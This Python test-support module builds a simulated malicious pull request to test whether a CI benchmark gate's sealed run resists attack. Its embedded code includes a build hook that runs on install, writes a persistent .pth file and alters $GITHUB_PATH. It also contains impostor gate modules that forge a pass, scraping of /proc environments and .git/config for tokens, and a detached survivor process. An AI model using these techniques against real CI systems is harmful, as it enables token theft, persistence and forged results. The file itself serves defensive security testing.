"""A pull request that attacks the gate from every place its code runs, and writes down what it reached.

Its memory stores nothing (an honest gate says REGRESSION). Its code runs three ways, each trying
everything the sealed run must deny (DESIGN §6 "Sealed"):

- ``install:`` (``pip install -e .``): the project is named ``membench-gate`` with a
  ``src/membench_gate/`` package (to stand in for the gate), has a ``src/sitecustomize.py`` (a
  src layout's folder lands on ``sys.path``, and ``site`` imports it), and a hatchling build hook —
  build code — that appends to ``$GITHUB_PATH`` when it has it, and drops a ``.pth`` so every later
  interpreter of its environment runs the attack too;
- the adapter: its ``membench_gate.host`` is the pull request's own (the package replaced the
  gate's in the memory's environment), a JSON-RPC server that stores nothing;
- a detached process (``setsid``, double fork) that both leave behind, which keeps trying after
  they end and shows up in ``ps`` as ``membench-survivor``.

Each tries: the runner's file-command files (its environment, and any found by scanning), the
gate's own files (``verdict.json``, ``report.md``, results) and virtual environment, the token
(``/proc/<pid>/environ`` of every process, ``.git/config`` of any checkout), and the gold (fixture
files in the checkout, the action's folder, any installed ``membench_gate/_data/fixtures``).
Nothing is harmed: a file is opened for writing and closed unwritten, a probe file is removed.
Every finding is a JSON line in a file of its own in the world-writable ``FINDINGS`` folder.
"""

from __future__ import annotations

from tests.support.paths import BUILTIN

ATTACK = r'''
"""What a pull request's code reaches; every finding logged to FINDINGS."""
import base64, hashlib, json, os, re, sys, time

FINDINGS = {findings!r}
GOLD = {gold!r}  # sha256 of each fixture file the gate measures with
COMMAND_FILE = re.compile(r"(outputcmd|pathcmd|envs|statecmd)\.txt|SUMMARY\.md"
                          r"|(set_output|add_path|set_env|save_state|step_summary)_.+")
GATE_FILES = ("verdict.json", "report.md", "results.json", "base.json", "selftest.json")
GOLD_FILES = ("decisions.json", "scenarios.json", "facts.json", "probes.json")
CHECKOUT_FILES = (".git/config", "fixtures/veto/decisions.json", "baselines/main.json",
                  "membench-gate-action/fixtures/veto/decisions.json", "verdict.json",
                  "report.md")
ROLE = "?"


def log(kind, detail=""):
    line = json.dumps({{"role": ROLE, "uid": os.getuid(), "pid": os.getpid(),
                       "exe": sys.executable, "kind": kind, "detail": str(detail)[:3000],
                       "t": time.time()}})
    with open(os.path.join(FINDINGS, f"{{os.getuid()}}-{{os.getpid()}}.jsonl"), "a") as handle:
        handle.write(line + "\n")


def roots():
    """Where a runner keeps things: every home, the sandboxes in /tmp, the paths the step's
    environment names, and the interpreter's own path."""
    out = []
    try:
        out += [os.path.join("/home", name) for name in os.listdir("/home")]
    except OSError:
        pass
    try:
        out += [os.path.join("/tmp", n) for n in os.listdir("/tmp") if n.startswith("membench-seal-")]
    except OSError:
        pass
    # Any absolute path in the environment (GITHUB_EVENT_PATH lies beside the runner's file
    # commands) or on another process's command line (world-readable: the gate's own name its
    # output files), with two levels of parents.
    # Only processes of a user other than root: a hosted runner's user is not root.
    paths = [v for v in os.environ.values() if v.startswith("/")]
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                with open(f"/proc/{{name}}/status", encoding="utf-8") as handle:
                    if "\nUid:\t0\t" in handle.read():
                        continue
                with open(f"/proc/{{name}}/cmdline", "rb") as handle:
                    args = handle.read().decode("utf-8", "replace").split("\0")
            except OSError:
                continue
            paths += [a.split("=", 1)[-1] for a in args if "/" in a]
    system = ("/usr", "/bin", "/sbin", "/lib", "/etc", "/proc", "/sys", "/dev", "/snap", "/var/lib",
              "/opt/pypi", "/opt/wheels", "/root/.pyenv", "/nonexistent")
    for path in paths:
        if not path.startswith("/") or path.startswith(system) or path in ("/", "/tmp"):
            continue
        levels = [path]
        for _ in range(3):
            levels.append(os.path.dirname(levels[-1]))
        for level in levels:
            if level.count("/") >= 2 and os.path.isdir(level):
                out.append(level)
    out += [p for p in sys.path if p and os.path.isdir(p) and not p.startswith(system)]
    # A folder inside another is walked with it.
    out = sorted(set(out))
    return [p for i, p in enumerate(out) if not any(p.startswith(q + "/") for q in out[:i])]


def ancestors():
    """The working directory and its parents: where git looks for a repository."""
    here = os.getcwd()
    while True:
        yield here
        if here == os.path.dirname(here):
            return
        here = os.path.dirname(here)


def scan():
    found = {{"commands": set(), "gate": set(), "gold": set(), "git": set(), "venvs": set(),
             "closed": set()}}
    start, seen = time.monotonic(), 0
    for root in roots():
        for dirpath, dirnames, filenames in os.walk(root, onerror=lambda e: None):
            seen += len(filenames) + len(dirnames)
            if time.monotonic() - start > 10 or seen > 200000:
                return found
            if dirpath.count(os.sep) > 16:
                dirnames[:] = []
            base = os.path.basename(dirpath)
            for name in filenames:
                path = os.path.join(dirpath, name)
                if COMMAND_FILE.fullmatch(name):
                    found["commands"].add(path)
                if name in GATE_FILES and base == "membench-gate":
                    found["gate"].add(path)
                if name in GOLD_FILES or base == "conversations":
                    found["gold"].add(path)
                if name == "config" and base == ".git":
                    found["git"].add(path)
            if base in ("membench-gate-venv", "membench-gate-wheel"):
                found["venvs"].add(dirpath)
            for name in dirnames:  # a folder it cannot list: try what a checkout holds
                if name in ("membench-gate-venv", "membench-gate-wheel"):
                    found["venvs"].add(os.path.join(dirpath, name))
                elif not os.access(os.path.join(dirpath, name), os.R_OK | os.X_OK):
                    for inside in CHECKOUT_FILES:
                        found["closed"].add(os.path.join(dirpath, name, inside))
    for folder in ancestors():
        if os.path.exists(os.path.join(folder, ".git", "config")):
            found["git"].add(os.path.join(folder, ".git", "config"))
    return found


def try_write(kind, path):
    try:
        os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
    except OSError as exc:
        log("denied", f"{{kind}} {{path}}: {{exc.strerror}}")
        return
    log("WROTE", f"{{kind}} {{path}}")


def tokens_in(text, source):
    for match in re.finditer(r"GITHUB_TOKEN=([^\x00\n]+)", text):
        log("TOKEN", f"{{source}}: {{match.group(1)}}")
    for match in re.finditer(r"basic ([A-Za-z0-9+/=]+)", text):
        try:
            log("TOKEN", f"{{source}}: {{base64.b64decode(match.group(1)).decode()}}")
        except ValueError:
            pass


def attack():
    log("start", f"cwd={{os.getcwd()}} argv={{sys.argv[:3]}}")
    for name in ("GITHUB_OUTPUT", "GITHUB_PATH", "GITHUB_ENV", "GITHUB_STATE",
                 "GITHUB_STEP_SUMMARY", "RUNNER_TEMP", "GITHUB_TOKEN", "GH_TOKEN",
                 "ACTIONS_RUNTIME_TOKEN"):
        if os.environ.get(name):
            log("ENV", f"{{name}}={{os.environ[name]}}")
    if os.environ.get("GITHUB_PATH"):
        try_write("env-file", os.environ["GITHUB_PATH"])
    found = scan()
    for path in sorted(found["commands"]):
        try_write("command-file", path)
    for path in sorted(found["gate"]):
        try_write("gate-file", path)
    for folder in sorted(found["venvs"]):
        probe = os.path.join(folder, "pwned-probe")
        try:
            os.close(os.open(probe, os.O_WRONLY | os.O_CREAT, 0o644))
            os.unlink(probe)
            log("WROTE", f"gate-venv {{folder}}")
        except OSError as exc:
            log("denied", f"gate-venv {{folder}}: {{exc.strerror}}")
    for path in sorted(found["gold"]):
        try:
            with open(path, "rb") as handle:
                data = handle.read()
        except OSError as exc:
            log("denied", f"gold {{path}}: {{exc.strerror}}")
            continue
        if hashlib.sha256(data).hexdigest() in GOLD:  # this run's gold, byte for byte
            log("GOLD", f"{{path}} ({{len(data)}} bytes)")
    for path in sorted(found["closed"]):
        try:
            with open(path, "rb") as handle:
                data = handle.read()
        except FileNotFoundError:
            continue
        except OSError as exc:
            log("denied", f"closed {{path}}: {{exc.strerror}}")
            continue
        log("READ", f"{{path}} in a folder it cannot list")
        tokens_in(data.decode("utf-8", "replace"), path)
        try_write("gate-file", path)
    for path in sorted(found["git"]):
        try:
            with open(path, encoding="utf-8", errors="replace") as handle:
                tokens_in(handle.read(), path)
        except OSError as exc:
            log("denied", f"git-config {{path}}: {{exc.strerror}}")
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                with open(f"/proc/{{name}}/environ", "rb") as handle:
                    environ = handle.read().decode("utf-8", "replace")
            except OSError:
                continue
            tokens_in(environ, f"/proc/{{name}}/environ")
    log("done")


SURVIVOR = """
import os, sys, time
sys.path.insert(0, sys.argv[3])
import _attack as attack
attack.ROLE = "survivor-" + sys.argv[2]
attack.log("SURVIVOR", f"started by {{sys.argv[2]}}")
end = time.time() + 40
while time.time() < end:
    attack.log("SURVIVOR", "alive")
    attack.attack()
    time.sleep(2)
"""


def leave_survivor(role):
    """A detached process: double fork, a session of its own, stdio closed, argv recognisable;
    one per role and run (the selftest starts its adapter many times)."""
    try:
        os.close(os.open(os.path.join(FINDINGS, f"survivor-{{role}}-{{os.getuid()}}"),
                         os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644))
    except OSError:
        return
    child = os.fork()
    if child != 0:
        os.waitpid(child, 0)
        return
    try:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.execv(sys.executable, [sys.executable, "-c", SURVIVOR, "membench-survivor", role,
                                  os.path.dirname(os.path.abspath(__file__))])
    finally:
        os._exit(0)


def run(role):
    global ROLE
    ROLE = role
    try:
        attack()
    except Exception as exc:
        log("error", f"{{type(exc).__name__}}: {{exc}}")
'''

# The pull request's stand-in for the gate's package: imported from anywhere but the memory's own
# environment, it says so (and would forge a pass).
IMPOSTOR_INIT = '''
import sys
from . import _attack
_attack.log("IMPORTED", f"membench_gate of the pull request imported by {sys.executable}")
'''

IMPOSTOR_GATE = '''
import sys
from membench_gate import _attack
_attack.log("IMPOSTOR", f"the gate ran the pull request's {__name__} ({sys.executable})")
print("verdict=pass")
raise SystemExit(0)
'''

# ``python -m membench_gate.host``, the pull request's: a memory that stores nothing, and attacks.
HOST = '''
import json, os, sys
from membench_gate import _attack

_attack.run("host")
_attack.leave_survivor("host")
for line in sys.stdin:
    request = json.loads(line)
    method = request["method"]
    if method == "initialize":
        result = {"protocol": 1, "name": "nothing", "capabilities": {"push": False, "write": False}}
    elif method == "search":
        result = {"hits": [], "abstain": True}
    else:
        result = None
    sys.stdout.write(json.dumps({"jsonrpc": "2.0", "id": request["id"], "result": result}) + "\\n")
    sys.stdout.flush()
    if method == "shutdown":
        break
'''

SITECUSTOMIZE = '''
import sys
from membench_gate import _attack
_attack.ROLE = "sitecustomize"
_attack.log("start", f"sitecustomize in {sys.executable}")
'''

# A hatchling build hook: build code, run by ``pip install -e .``.
BUILD_HOOK = '''
import glob, os, sys
from hatchling.builders.hooks.plugin.interface import BuildHookInterface


class CustomBuildHook(BuildHookInterface):
    def initialize(self, version, build_data):
        sys.path.insert(0, os.path.join(self.root, "src"))
        from membench_gate import _attack
        _attack.run("install")
        if os.environ.get("GITHUB_PATH"):
            with open(os.environ["GITHUB_PATH"], "a") as handle:
                handle.write(os.path.join(self.root, "evil-bin") + "\\n")
        # Every later interpreter of this environment runs the attack too.
        for site in glob.glob(os.path.join(os.environ.get("VIRTUAL_ENV", "/nonexistent"), "lib",
                                           "python*", "site-packages")):
            line = (f"import sys; sys.path.append({os.path.join(self.root, 'src')!r}); "
                    "import membench_gate._attack as a; a.ROLE = 'pth'; a.log('start', 'pth')\\n")
            with open(os.path.join(site, "zz_attack.pth"), "w") as handle:
                handle.write(line)
        _attack.leave_survivor("install")
'''

PYPROJECT = '''\
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "membench-gate"
version = "99.0"

[tool.hatch.build.targets.wheel]
packages = ["src/membench_gate"]

[tool.hatch.build.hooks.custom]
path = "hatch_build.py"
'''

HONEST_PYPROJECT = '''\
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "acme-memory"
version = "1.0"

[tool.hatch.build.targets.wheel]
packages = ["src/acme_memory"]
'''


def honest_files() -> dict[str, str]:
    """The memory repository's own package, installed by ``pip install -e .``."""
    return {"pyproject.toml": HONEST_PYPROJECT,
            "src/acme_memory/__init__.py": '"""The memory: the reference one, for now."""\n'}


def gold_digests() -> set[str]:
    """The sha256 of every shipped fixture file: the gold of a config on ``builtin`` fixtures."""
    import hashlib

    return {hashlib.sha256(path.read_bytes()).hexdigest() for path in BUILTIN.rglob("*.json")}


def attack_files(findings: str) -> dict[str, str]:
    """What the attacking pull request adds and changes (no protected file among them)."""
    return {
        "pyproject.toml": PYPROJECT,
        "hatch_build.py": BUILD_HOOK,
        "src/sitecustomize.py": SITECUSTOMIZE,
        "src/membench_gate/__init__.py": IMPOSTOR_INIT,
        "src/membench_gate/_attack.py": ATTACK.format(findings=findings,
                                                      gold=sorted(gold_digests())),
        "src/membench_gate/host.py": HOST,
        "src/membench_gate/__main__.py": IMPOSTOR_GATE,
        "src/membench_gate/action.py": IMPOSTOR_GATE,
        "src/membench_gate/cli.py": IMPOSTOR_GATE,
        # What the action's install step runs (python -I -m membench_gate.ci.sandbox prepare).
        "src/membench_gate/ci/__init__.py": "",
        "src/membench_gate/ci/sandbox.py": IMPOSTOR_GATE,
    }
